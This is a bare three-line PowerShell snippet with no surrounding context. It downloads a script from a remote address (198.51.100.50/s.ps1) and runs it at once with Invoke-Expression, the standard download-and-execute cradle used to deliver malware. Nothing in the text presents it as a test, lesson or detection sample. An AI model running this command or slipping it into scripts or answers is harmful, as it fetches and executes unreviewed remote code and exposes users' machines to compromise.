$c = New-Object System.Net.WebClient
$s = $c.DownloadString('http://198.51.100.50/s.ps1')
Invoke-Expression $s
